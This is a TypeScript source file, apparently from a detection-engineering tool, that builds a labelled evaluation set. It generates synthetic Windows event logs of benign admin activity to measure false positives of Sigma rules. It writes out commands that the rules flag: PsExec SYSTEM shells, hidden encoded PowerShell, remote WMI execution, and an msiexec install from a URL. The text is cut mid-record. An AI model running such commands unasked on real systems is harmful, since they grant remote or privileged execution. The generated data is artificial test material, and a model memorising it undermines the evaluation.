// Builds Mamori's labelled evaluation set (docs/eval-set.md): findings a hunt really produces, each with the truth.
//
// Malicious: `hunt` with the SigmaHQ rules over EVTX-ATTACK-SAMPLES. A detection is a malicious case only when its
// rule is about the sample's technique (`relate` says 'technique' or 'name'); the rest fired on whatever the lab
// machine did meanwhile and is left out, counted, and not called benign (nobody knows what it was).
//
// Benign: generators of ordinary administrator and IT activity over a made-up fleet, written as the JSON evtx_dump
// produces for Windows events (Sysmon, Security, System, Application), hunted with the same rules. Every detection
// on them is a false positive by construction. Each generator says what real practice it imitates; some are fleet
// routines (many hosts, many days), some are one-offs (one admin, one host, once), because real false positives
// are both. A seeded PRNG (mulberry32) makes the set reproducible.
//
// The provenance a finding carries (the log file's path, its reader) is normalised on both sides so the label
// cannot be read off it: an EVTX sample's name spells its technique, and "generated JSON" spells benign.
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, dirname, join, relative, resolve, sep } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Finding } from '../../../core/finding.ts';
import { seededRandom } from '../../../core/random.ts';
import { escapeRegex } from '../../../core/text.ts';
import { hunt } from '../../../hunt/pipeline.ts';
import { writeCases, type LabelledCase } from './schema.ts';
import { relate, sampleTechniques, type Relation } from './samples.ts';

const REPO = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', '..');
const SHARED = resolve(REPO, '..', 'shared', 'data');

export const DEFAULT_SAMPLES_DIR = join(SHARED, 'evtx', 'attack-samples');
export const DEFAULT_RULES_DIR = join(SHARED, 'sigma', 'rules');
export const DEFAULT_OUT_DIR = join(REPO, 'bench', 'out', 'eval-cases');
export const FIXTURE_DIR = join(REPO, 'test', 'fixtures', 'analysts', 'eval');
export const DEFAULT_SEED = 20260315;

// ---------------------------------------------------------------------------------------------------------------
// Seeded randomness

/** A generator's own stream: its events do not shift when another generator changes. */
function streamSeed(seed: number, name: string): number {
  return createHash('sha256').update(`${seed}:${name}`).digest().readUInt32LE(0);
}

type Rng = {
  readonly next: () => number;
  int(lo: number, hi: number): number;
  pick<T>(xs: readonly T[]): T;
  chance(p: number): boolean;
  sample<T>(xs: readonly T[], n: number): T[];
  hex(n: number): string;
};

function rngOf(seed: number): Rng {
  const next = seededRandom(seed);
  const int = (lo: number, hi: number): number => lo + Math.floor(next() * (hi - lo + 1));
  return {
    next,
    int,
    pick: (xs) => xs[Math.floor(next() * xs.length)]!,
    chance: (p) => next() < p,
    sample: (xs, n) => {
      const a = [...xs];
      for (let i = a.length - 1; i > 0; i--) {
        const j = Math.floor(next() * (i + 1));
        [a[i], a[j]] = [a[j]!, a[i]!];
      }
      return a.slice(0, Math.min(n, a.length));
    },
    hex: (n) => Array.from({ length: n }, () => Math.floor(next() * 16).toString(16)).join(''),
  };
}

// ---------------------------------------------------------------------------------------------------------------
// The fleet

export type FleetOptions = {
  readonly workstations?: number;
  readonly servers?: number;
  readonly days?: number;
  /** First day of the window, UTC midnight (ISO date). */
  readonly start?: string;
};

export type Fleet = {
  readonly workstations: readonly string[];
  readonly servers: readonly string[];
  /** The IT jump host admins work from (one of the servers). */
  readonly jump: string;
  readonly sccm: string;
  readonly dc: string;
  readonly fileServer: string;
  readonly sql: string;
  readonly days: number;
  readonly start: number;
  /** Workstations of the helpdesk and IT staff, and of developers. */
  readonly helpdesk: readonly string[];
  readonly developers: readonly string[];
  readonly admins: readonly string[];
  readonly users: ReadonlyMap<string, string>;
};

const DOMAIN = 'corp.example.jp';
const SERVER_ROLES = ['JUMP', 'SCCM', 'DC', 'FS', 'SQL', 'APP', 'WEB', 'BKP', 'PRN', 'LOG', 'CA', 'HV'];
const FIRST = ['sato', 'suzuki', 'takahashi', 'tanaka', 'ito', 'watanabe', 'yamamoto', 'nakamura', 'kobayashi'];
const FIRST2 = ['kato', 'yoshida', 'yamada', 'sasaki', 'yamaguchi', 'matsumoto', 'inoue', 'kimura', 'hayashi'];

export function makeFleet(o: FleetOptions = {}): Fleet {
  const nw = o.workstations ?? 40;
  const ns = Math.max(5, o.servers ?? 10);
  const workstations = Array.from({ length: nw }, (_, i) => `WS-${String(i + 1).padStart(4, '0')}.${DOMAIN}`);
  const servers = Array.from(
    { length: ns },
    (_, i) =>
      `SV-${SERVER_ROLES[i % SERVER_ROLES.length]}-${String(1 + Math.floor(i / SERVER_ROLES.length)).padStart(2, '0')}.${DOMAIN}`,
  );
  const users = new Map<string, string>();
  workstations.forEach((w, i) =>
    users.set(w, `${FIRST[i % FIRST.length]}.${FIRST2[Math.floor(i / FIRST.length) % FIRST2.length]}`),
  );
  return {
    workstations,
    servers,
    jump: servers[0]!,
    sccm: servers[1]!,
    dc: servers[2]!,
    fileServer: servers[3]!,
    sql: servers[4]!,
    days: o.days ?? 28,
    start: Date.parse(`${o.start ?? '2021-03-01'}T00:00:00Z`),
    helpdesk: workstations.slice(0, Math.min(3, nw)),
    developers: workstations.slice(Math.min(3, nw), Math.min(9, nw)),
    admins: ['adm-tanaka', 'adm-ito', 'adm-kimura'],
    users,
  };
}

const short = (host: string): string => host.split('.')[0]!;
/** The hosts after the first `n` (the "ordinary" ones), or all of them on a fleet too small to have any. */
const rest = (hosts: readonly string[], n: number): readonly string[] => (hosts.length > n ? hosts.slice(n) : hosts);

// ---------------------------------------------------------------------------------------------------------------
// Windows events in the evtx_dump shape

/** One log record as evtx_dump writes it: `{Event: {System, EventData | UserData}}`. */
export type WinEvent = { readonly Event: Record<string, unknown> };

const SYSMON = { name: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' };
const SECURITY = { name: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' };
const EVENTLOG = { name: 'Microsoft-Windows-Eventlog', guid: '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}' };
const SCM = { name: 'Service Control Manager', guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}' };
const SYSTEM_SID = 'S-1-5-18';
const SYSTEM_USER = 'NT AUTHORITY\\SYSTEM';

/** What the version resource of a binary says (Sysmon copies it into process events). */
const PE: Readonly<Record<string, readonly [original: string, description: string, product: string, company: string]>> =
  {
    'powershell.exe': [
      'PowerShell.EXE',
      'Windows PowerShell',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'cmd.exe': [
      'Cmd.Exe',
      'Windows Command Processor',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'reg.exe': ['reg.exe', 'Registry Console Tool', 'Microsoft® Windows® Operating System', 'Microsoft Corporation'],
    'schtasks.exe': [
      'schtasks.exe',
      'Task Scheduler Configuration Tool',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'sc.exe': [
      'sc.exe',
      'Service Control Manager Configuration Tool',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'net.exe': ['net.exe', 'Net Command', 'Microsoft® Windows® Operating System', 'Microsoft Corporation'],
    'net1.exe': ['net1.exe', 'Net Command', 'Microsoft® Windows® Operating System', 'Microsoft Corporation'],
    'whoami.exe': [
      'whoami.exe',
      'whoami - displays logged on user information',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'vssadmin.exe': [
      'VSSADMIN.EXE',
      'Command Line Interface for Microsoft® Volume Shadow Copy Service ',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'wbadmin.exe': [
      'WBADMIN.EXE',
      'Command Line Interface for Microsoft® BLB Backup',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'wevtutil.exe': [
      'wevtutil.exe',
      'Eventing Command Line Utility',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'certutil.exe': ['CertUtil.exe', 'CertUtil.exe', 'Microsoft® Windows® Operating System', 'Microsoft Corporation'],
    'rundll32.exe': [
      'RUNDLL32.EXE',
      'Windows host process (Rundll32)',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'regsvr32.exe': [
      'REGSVR32.EXE',
      'Microsoft(C) Register Server',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'msiexec.exe': ['msiexec.exe', 'Windows® installer', 'Windows Installer - Unicode', 'Microsoft Corporation'],
    'wmic.exe': [
      'wmic.exe',
      'WMI Commandline Utility',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'psexec.exe': [
      'psexec.c',
      'Execute processes remotely',
      'Sysinternals PsExec',
      'Sysinternals - www.sysinternals.com',
    ],
    'psexec64.exe': [
      'psexec.c',
      'Execute processes remotely',
      'Sysinternals PsExec',
      'Sysinternals - www.sysinternals.com',
    ],
    'psexesvc.exe': ['psexesvc.exe', 'PsExec Service', 'Sysinternals PsExec', 'Sysinternals'],
    'procdump.exe': [
      'procdump',
      'Sysinternals process dump utility',
      'ProcDump',
      'Sysinternals - www.sysinternals.com',
    ],
    'procdump64.exe': [
      'procdump',
      'Sysinternals process dump utility',
      'ProcDump',
      'Sysinternals - www.sysinternals.com',
    ],
    'attrib.exe': ['ATTRIB.EXE', 'Attribute Utility', 'Microsoft® Windows® Operating System', 'Microsoft Corporation'],
    'netsh.exe': [
      'netsh.exe',
      'Network Command Shell',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'sdbinst.exe': [
      'sdbinst.exe',
      'Application Compatibility Database Installer',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'wusa.exe': [
      'wusa.exe',
      'Windows Update Standalone Installer',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'ntdsutil.exe': ['ntdsutil.exe', 'NT5DS', 'Microsoft® Windows® Operating System', 'Microsoft Corporation'],
    'hh.exe': ['HH.exe', 'Microsoft® HTML Help Executable', 'HTML Help', 'Microsoft Corporation'],
    'cscript.exe': [
      'cscript.exe',
      'Microsoft ® Console Based Script Host',
      'Microsoft ® Windows Script Host',
      'Microsoft Corporation',
    ],
    'wscript.exe': [
      'wscript.exe',
      'Microsoft ® Windows Based Script Host',
      'Microsoft ® Windows Script Host',
      'Microsoft Corporation',
    ],
    'gpupdate.exe': [
      'GPUpdate.exe',
      'Microsoft® Windows® Group Policy Update Utility',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'ipconfig.exe': [
      'ipconfig.exe',
      'IP Configuration Utility',
      'Microsoft® Windows® Operating System',
      'Microsoft Corporation',
    ],
    'mimikatz.exe': ['mimikatz.exe', 'mimikatz for Windows', 'mimikatz', 'gentilkiwi (Benjamin DELPY)'],
  };

export type ProcRef = {
  readonly image: string;
  readonly cmd: string;
  readonly guid: string;
  readonly pid: number;
  readonly user: string;
};

/** Writes one generator's events; record ids count per host and channel, times are kept in order at the end. */
export class EventLog {
  readonly events: { time: number; event: WinEvent }[] = [];
  readonly #rng: Rng;
  readonly #records = new Map<string, number>();

  constructor(rng: Rng) {
    this.#rng = rng;
  }

  guid(): string {
    const h = this.#rng.hex(32).toUpperCase();
    return `{${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}}`;
  }

  pid(): number {
    return 4 * this.#rng.int(100, 4000);
  }

  /** A record of any channel. `data` is EventData, or `{ UserData: ... }` for events that carry UserData. */
  record(
    host: string,
    time: number,
    channel: string,
    provider: { name: string; guid?: string },
    eventId: number,
    body: { EventData?: Record<string, unknown>; UserData?: Record<string, unknown> },
    userSid?: string,
  ): void {
    const key = `${host}\u0000${channel}`;
    const rid = (this.#records.get(key) ?? 1000 + this.#rng.int(0, 50000)) + 1;
    this.#records.set(key, rid);
    const event: Record<string, unknown> = {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: {
          '#attributes': provider.guid ? { Name: provider.name, Guid: provider.guid } : { Name: provider.name },
        },
        EventID: eventId,
        Version: channel === 'Microsoft-Windows-Sysmon/Operational' ? 5 : 0,
        Level: 4,
        Task: 0,
        Opcode: 0,
        Keywords: channel === 'Security' ? '0x8020000000000000' : '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: new Date(time).toISOString().replace('Z', '000Z') } },
        EventRecordID: rid,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: this.pid(), ThreadID: this.pid() } },
        Channel: channel,
        Computer: host,
        Security: userSid ? { '#attributes': { UserID: userSid } } : null,
      },
      ...body,
    };
    this.events.push({ time, event: { Event: event } });
  }

  sysmon(host: string, time: number, eventId: number, data: Record<string, unknown>): void {
    const utc = new Date(time).toISOString().replace('T', ' ').replace('Z', '');
    this.record(
      host,
      time,
      'Microsoft-Windows-Sysmon/Operational',
      SYSMON,
      eventId,
      {
        EventData: { RuleName: '-', UtcTime: utc, ...data },
      },
      SYSTEM_SID,
    );
  }

  security(host: string, time: number, eventId: number, data: Record<string, unknown>): void {
    this.record(host, time, 'Security', SECURITY, eventId, { EventData: data });
  }

  /** A Sysmon process creation (EID 1); returns the process, to be the parent of the next one. */
  proc(
    host: string,
    time: number,
    parent: ProcRef,
    image: string,
    cmd: string,
    opts: { user?: string; integrity?: string; cwd?: string } = {},
  ): ProcRef {
    const name = basename(image.replaceAll('\\', '/')).toLowerCase();
    const pe = PE[name] ?? [basename(image.replaceAll('\\', '/')), '-', '-', '-'];
    const user = opts.user ?? parent.user;
    const guid = this.guid();
    const pid = this.pid();
    const sha = createHash('sha256').update(image.toLowerCase()).digest('hex').toUpperCase();
    const md5 = createHash('md5').update(image.toLowerCase()).digest('hex').toUpperCase();
    this.sysmon(host, time, 1, {
      ProcessGuid: guid,
      ProcessId: pid,
      Image: image,
      FileVersion: pe[2] === '-' ? '-' : '10.0.19041.1 (WinBuild.160101.0800)',
      Description: pe[1],
      Product: pe[2],
      Company: pe[3],
      OriginalFileName: pe[0],
      CommandLine: cmd,
      CurrentDirectory: opts.cwd ?? 'C:\\Windows\\system32\\',
      User: user,
      LogonGuid: this.guid(),
      LogonId: user === SYSTEM_USER ? '0x3e7' : `0x${this.#rng.hex(6)}`,
      TerminalSessionId: user === SYSTEM_USER ? 0 : 1,
      IntegrityLevel: opts.integrity ?? (user === SYSTEM_USER ? 'System' : 'Medium'),
      Hashes: `MD5=${md5},SHA256=${sha},IMPHASH=${md5.slice(0, 16)}${sha.slice(0, 16)}`,
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.cmd,
      ParentUser: parent.user,
    });
    return { image, cmd, guid, pid, user };
  }

  /** A process that is already running (its creation is not in the window): the parent of what it starts. */
  running(image: string, cmd: string, user: string): ProcRef {
    return { image, cmd, guid: this.guid(), pid: this.pid(), user };
  }

  registry(host: string, time: number, p: ProcRef, targetObject: string, details: string): void {
    this.sysmon(host, time, 13, {
      EventType: 'SetValue',
      ProcessGuid: p.guid,
      ProcessId: p.pid,
      Image: p.image,
      TargetObject: targetObject,
      Details: details,
      User: p.user,
    });
  }

  file(host: string, time: number, p: ProcRef, target: string): void {
    const t = new Date(time).toISOString().replace('T', ' ').replace('Z', '');
    this.sysmon(host, time, 11, {
      ProcessGuid: p.guid,
      ProcessId: p.pid,
      Image: p.image,
      TargetFilename: target,
      CreationUtcTime: t,
      User: p.user,
    });
  }

  network(host: string, time: number, p: ProcRef, dest: { ip: string; host: string; port: number }): void {
    this.sysmon(host, time, 3, {
      ProcessGuid: p.guid,
      ProcessId: p.pid,
      Image: p.image,
      User: p.user,
      Protocol: 'tcp',
      Initiated: true,
      SourceIsIpv6: false,
      SourceIp: `10.20.${this.#rng.int(1, 9)}.${this.#rng.int(10, 250)}`,
      SourceHostname: host,
      SourcePort: this.#rng.int(49152, 65000),
      SourcePortName: '-',
      DestinationIsIpv6: false,
      DestinationIp: dest.ip,
      DestinationHostname: dest.host,
      DestinationPort: dest.port,
      DestinationPortName: dest.port === 3389 ? 'ms-wbt-server' : '-',
    });
  }

  processAccess(
    host: string,
    time: number,
    source: ProcRef,
    target: { image: string; pid: number },
    access: string,
  ): void {
    this.sysmon(host, time, 10, {
      SourceProcessGUID: source.guid,
      SourceProcessId: source.pid,
      SourceThreadId: this.pid(),
      SourceImage: source.image,
      TargetProcessGUID: this.guid(),
      TargetProcessId: target.pid,
      TargetImage: target.image,
      GrantedAccess: access,
      CallTrace: `C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2bcae|${source.image}+1a2f3`,
      SourceUser: source.user,
      TargetUser: SYSTEM_USER,
    });
  }

  serviceInstalled(host: string, time: number, name: string, imagePath: string, account = 'LocalSystem'): void {
    this.record(
      host,
      time,
      'System',
      SCM,
      7045,
      {
        EventData: {
          ServiceName: name,
          ImagePath: imagePath,
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: account,
        },
      },
      'S-1-5-21-3623811015-3361044348-30300820-1013',
    );
  }

  sorted(): WinEvent[] {
    return [...this.events].sort((a, b) => a.time - b.time).map((e) => e.event);
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Benign generators

export type GeneratorContext = {
  readonly fleet: Fleet;
  readonly rng: Rng;
  readonly log: EventLog;
  /** A time on day `d` (0-based), inside working hours (JST 09:00–19:00) unless `hours` says otherwise. */
  at(day: number, hours?: readonly [number, number]): number;
};

export type BenignGenerator = {
  readonly name: string;
  /** Fleet routine (many hosts, many days) or a one-off (one admin, one host, once or twice). */
  readonly kind: 'routine' | 'one-off';
  /** The real practice it imitates. */
  readonly imitates: string;
  readonly run: (c: GeneratorContext) => void;
};

const SYS32 = 'C:\\Windows\\System32';
const PS = `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYS32}\\cmd.exe`;
const days = (c: GeneratorContext): number[] => Array.from({ length: c.fleet.days }, (_, i) => i);
const weekdays = (c: GeneratorContext): number[] =>
  days(c).filter((d) => {
    const wd = new Date(c.fleet.start + d * 86_400_000).getUTCDay();
    return wd !== 0 && wd !== 6;
  });
const domainUser = (u: string): string => `CORP\\${u}`;
const explorer = (c: GeneratorContext, user: string): ProcRef =>
  c.log.running('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', domainUser(user));

export const GENERATORS: readonly BenignGenerator[] = [
  {
    name: 'sccm-ci-scripts',
    kind: 'routine',
    imitates:
      "Configuration Manager (SCCM/MECM) compliance settings and scripts: CcmExec runs each configuration item's PowerShell as SYSTEM with -ExecutionPolicy Bypass from C:\\Windows\\CCM\\SystemTemp, every day on every client.",
    run(c) {
      const ccm = c.log.running(`C:\\Windows\\CCM\\CcmExec.exe`, '"C:\\Windows\\CCM\\CcmExec.exe"', SYSTEM_USER);
      for (const d of days(c))
        for (const h of c.rng.sample([...c.fleet.workstations, ...c.fleet.servers], 6)) {
          const script = `C:\\Windows\\CCM\\SystemTemp\\${c.log.guid().slice(1, -1).toLowerCase()}.ps1`;
          c.log.proc(
            h,
            c.at(d, [0, 23]),
            ccm,
            PS,
            `"${PS}" -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "${script}"`,
            {
              cwd: 'C:\\Windows\\CCM\\SystemTemp\\',
            },
          );
          if (c.rng.chance(0.3)) {
            const inner = c.log.proc(
              h,
              c.at(d, [0, 23]),
              ccm,
              CMD,
              `C:\\Windows\\system32\\cmd.exe /c "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command \\"Get-WmiObject -Namespace root\\ccm\\clientsdk -Class CCM_SoftwareUpdate | Measure-Object\\""`,
            );
            c.log.proc(
              h,
              c.at(d, [0, 23]),
              inner,
              PS,
              `powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Get-WmiObject -Namespace root\\ccm\\clientsdk -Class CCM_SoftwareUpdate | Measure-Object"`,
            );
          }
        }
    },
  },
  {
    name: 'msi-deployment',
    kind: 'routine',
    imitates:
      'Software distribution: the deployment agent installs MSI packages silently from the distribution share (msiexec /i \\\\server\\share\\x.msi /qn), and MSI custom actions start cmd/PowerShell under msiexec.',
    run(c) {
      const ccm = c.log.running('C:\\Windows\\CCM\\CcmExec.exe', '"C:\\Windows\\CCM\\CcmExec.exe"', SYSTEM_USER);
      const pkgs = [
        '7zip-19.00-x64.msi',
        'GoogleChromeStandaloneEnterprise64.msi',
        'AcroRdrDC2100120145_ja_JP.msi',
        'CorpVPN-4.2.1.msi',
        'FortiClient-7.0.msi',
      ];
      const waves = c.rng.sample(weekdays(c), 4);
      for (const d of waves) {
        const pkg = c.rng.pick(pkgs);
        for (const h of c.rng.sample(c.fleet.workstations, c.rng.int(8, 20))) {
          const t = c.at(d, [0, 23]);
          const mi = c.log.proc(
            h,
            t,
            ccm,
            `${SYS32}\\msiexec.exe`,
            `"C:\\Windows\\system32\\msiexec.exe" /i "\\\\${short(c.fleet.sccm)}\\SMS_PS1\\Packages\\${pkg}" /qn /norestart ALLUSERS=1 REBOOT=ReallySuppress /l*v "C:\\Windows\\CCM\\Logs\\${pkg}.log"`,
          );
          const srv = c.log.running(`${SYS32}\\msiexec.exe`, 'C:\\Windows\\system32\\msiexec.exe /V', SYSTEM_USER);
          if (pkg.startsWith('CorpVPN') || pkg.startsWith('Forti')) {
            c.log.proc(
              h,
              t + 20_000,
              srv,
              CMD,
              `C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\${pkg.split('-')[0]}\\postinstall.cmd" /silent"`,
            );
            c.log.proc(
              h,
              t + 25_000,
              srv,
              PS,
              `"${PS}" -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\${pkg.split('-')[0]}\\Register-Adapter.ps1"`,
            );
          }
          void mi;
        }
      }
    },
  },
  {
    name: 'msi-from-vendor-url',
    kind: 'one-off',
    imitates:
      "A developer installs a vendor tool straight from the vendor's download URL with msiexec (once, on one workstation).",
    run(c) {
      const dev = c.rng.pick(c.fleet.developers);
      const user = c.fleet.users.get(dev)!;
      const sh = c.log.proc(dev, c.at(c.rng.int(0, c.fleet.days - 1)), explorer(c, user), PS, `"${PS}" `, {
        user: domainUser(user),
        cwd: `C:\\Users\\${user}\\`,
      });
      c.log.proc(
        dev,
        c.at(c.rng.int(0, c.fleet.days - 1)),
        sh,
        `${SYS32}\\msiexec.exe`,
        `"C:\\Windows\\system32\\msiexec.exe" /i https://awscli.amazonaws.com/AWSCLIV2.msi /qb`,
      );
    },
  },
  {
    name: 'psexec-from-jump',
    kind: 'routine',
    imitates:
      "IT admins on the jump host use Sysinternals PsExec to run gpupdate, ipconfig or a repair command as SYSTEM on a user's workstation (PSEXESVC installed as a service on the target, its named pipe, the command under it).",
    run(c) {
      for (const d of c.rng.sample(weekdays(c), 10)) {
        const admin = c.rng.pick(c.fleet.admins);
        const cons = c.log.running(CMD, `"C:\\Windows\\system32\\cmd.exe" `, domainUser(admin));
        for (const target of c.rng.sample(c.fleet.workstations, c.rng.int(1, 3))) {
          const t = c.at(d);
          const cmd = c.rng.pick([
            'gpupdate /force',
            'ipconfig /flushdns',
            'sfc /scannow',
            'net stop spooler && net start spooler',
            'C:\\Windows\\CCM\\ccmrepair.exe',
          ]);
          c.log.proc(
            c.fleet.jump,
            t,
            cons,
            'C:\\Tools\\Sysinternals\\PsExec64.exe',
            `PsExec64.exe -accepteula \\\\${short(target)} -s cmd /c "${cmd}"`,
            { cwd: 'C:\\Tools\\Sysinternals\\' },
          );
          c.log.serviceInstalled(target, t + 1200, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
          c.log.sysmon(target, t + 1500, 17, {
            EventType: 'CreatePipe',
            ProcessGuid: c.log.guid(),
            ProcessId: c.log.pid(),
            PipeName: '\\PSEXESVC',
            Image: 'C:\\Windows\\PSEXESVC.exe',
            User: SYSTEM_USER,
          });
          const svc = c.log.proc(
            target,
            t + 1400,
            c.log.running(`${SYS32}\\services.exe`, 'C:\\Windows\\system32\\services.exe', SYSTEM_USER),
            'C:\\Windows\\PSEXESVC.exe',
            'C:\\Windows\\PSEXESVC.exe',
          );
          c.log.proc(target, t + 2000, svc, CMD, `cmd /c "${cmd}"`);
        }
      }
    },
  },
  {
    name: 'psexec-local-system-shell',
    kind: 'one-off',
    imitates:
      'An admin troubleshooting a service opens an interactive SYSTEM shell on a server with `psexec -s -i cmd` (once).',
    run(c) {
      const host = c.rng.pick(rest(c.fleet.servers, 5));
      const admin = c.rng.pick(c.fleet.admins);
      const t = c.at(c.rng.int(0, c.fleet.days - 1));
      const sh = c.log.running(PS, `"${PS}" `, domainUser(admin));
      c.log.proc(host, t, sh, 'C:\\Tools\\PsExec.exe', 'C:\\Tools\\PsExec.exe -accepteula -s -i cmd.exe', {
        integrity: 'High',
        cwd: 'C:\\Tools\\',
      });
      c.log.serviceInstalled(host, t + 800, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
      const svc = c.log.proc(
        host,
        t + 900,
        c.log.running(`${SYS32}\\services.exe`, 'C:\\Windows\\system32\\services.exe', SYSTEM_USER),
        'C:\\Windows\\PSEXESVC.exe',
        'C:\\Windows\\PSEXESVC.exe',
      );
      c.log.proc(host, t + 1500, svc, CMD, '"cmd.exe"');
    },
  },
  {
    name: 'wmi-remote-admin',
    kind: 'routine',
    imitates:
      'Remote administration over WMI: admins and the inventory tool run `wmic /node:X process call create` or Invoke-WmiMethod, so WmiPrvSE.exe starts cmd/PowerShell on the target.',
    run(c) {
      const wmi = c.log.running(
        `${SYS32}\\wbem\\WmiPrvSE.exe`,
        'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
        'NT AUTHORITY\\NETWORK SERVICE',
      );
      for (const d of c.rng.sample(weekdays(c), 12)) {
        const admin = c.rng.pick(c.fleet.admins);
        const cons = c.log.running(CMD, `"C:\\Windows\\system32\\cmd.exe" `, domainUser(admin));
        for (const target of c.rng.sample(c.fleet.workstations, c.rng.int(1, 4))) {
          const t = c.at(d);
          const what = c.rng.pick([
            'cmd.exe /c ipconfig /all > C:\\Windows\\Temp\\ipconfig.txt',
            'cmd.exe /c gpupdate /target:computer /force',
            'powershell.exe -NoProfile -Command "Get-HotFix | Export-Csv C:\\Windows\\Temp\\hotfix.csv"',
          ]);
          c.log.proc(
            c.fleet.jump,
            t,
            cons,
            `${SYS32}\\wbem\\WMIC.exe`,
            `wmic /node:${short(target)} process call create "${what}"`,
          );
          const img = what.startsWith('powershell') ? PS : CMD;
          c.log.proc(target, t + 900, { ...wmi, user: domainUser(admin) }, img, what, {
            user: domainUser(admin),
            integrity: 'High',
          });
        }
      }
    },
  },
  {
    name: 'ansible-winrm',
    kind: 'routine',
    imitates:
      'Configuration management over WinRM (Ansible win_* modules): wsmprovhost.exe runs `PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand ...` on every server, nightly.',
    run(c) {
      const host = c.log.running(
        `${SYS32}\\wsmprovhost.exe`,
        'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
        'CORP\\svc-ansible',
      );
      for (const d of days(c))
        for (const s of c.fleet.servers.slice(3)) {
          if (!c.rng.chance(0.5)) continue;
          const script = c.rng.pick([
            'Get-Service -Name W32Time | Select-Object Status',
            'Test-Path C:\\ProgramData\\CorpAgent\\agent.conf',
            '$PSVersionTable.PSVersion.ToString()',
            'Get-ItemProperty HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU',
          ]);
          const enc = Buffer.from(script, 'utf16le').toString('base64');
          c.log.proc(
            s,
            c.at(d, [17, 20]),
            host,
            PS,
            `PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand ${enc}`,
            {
              integrity: 'High',
              cwd: 'C:\\Users\\svc-ansible\\',
            },
          );
        }
    },
  },
  {
    name: 'monitoring-encoded-ps',
    kind: 'routine',
    imitates:
      "A monitoring agent's sensors run hidden, encoded PowerShell (`-w hidden -enc`) to read performance counters on servers every day.",
    run(c) {
      const agent = c.log.running(
        'C:\\Program Files (x86)\\PRTG Probe\\PRTG Probe.exe',
        '"C:\\Program Files (x86)\\PRTG Probe\\PRTG Probe.exe"',
        SYSTEM_USER,
      );
      for (const d of days(c))
        for (const s of c.rng.sample(c.fleet.servers, 3)) {
          const script = "Get-Counter '\\Processor(_Total)\\% Processor Time' -SampleInterval 1 -MaxSamples 3";
          c.log.proc(
            s,
            c.at(d, [0, 23]),
            agent,
            PS,
            `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${Buffer.from(script, 'utf16le').toString('base64')}`,
          );
        }
    },
  },
  {
    name: 'scheduled-task-admin',
    kind: 'routine',
    imitates:
      'Admins register maintenance tasks on servers with `schtasks /create ... /ru SYSTEM` (inventory upload, cleanup scripts in ProgramData), and a GPO creates the same task fleet-wide.',
    run(c) {
      for (const d of c.rng.sample(weekdays(c), 6)) {
        const admin = c.rng.pick(c.fleet.admins);
        const cons = c.log.running(CMD, `"C:\\Windows\\system32\\cmd.exe" `, domainUser(admin));
        for (const target of c.rng.sample(c.fleet.servers, c.rng.int(1, 3))) {
          const t = c.at(d);
          c.log.proc(
            c.fleet.jump,
            t,
            cons,
            `${SYS32}\\schtasks.exe`,
            `schtasks /create /s ${short(target)} /tn "Corp\\InventoryUpload" /tr "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Corp\\inventory.ps1" /sc daily /st 02:00 /ru SYSTEM /f`,
          );
          c.log.security(target, t + 700, 4698, {
            SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1105',
            SubjectUserName: admin,
            SubjectDomainName: 'CORP',
            SubjectLogonId: '0x5b3c1e2',
            TaskName: '\\Corp\\InventoryUpload',
            TaskContent:
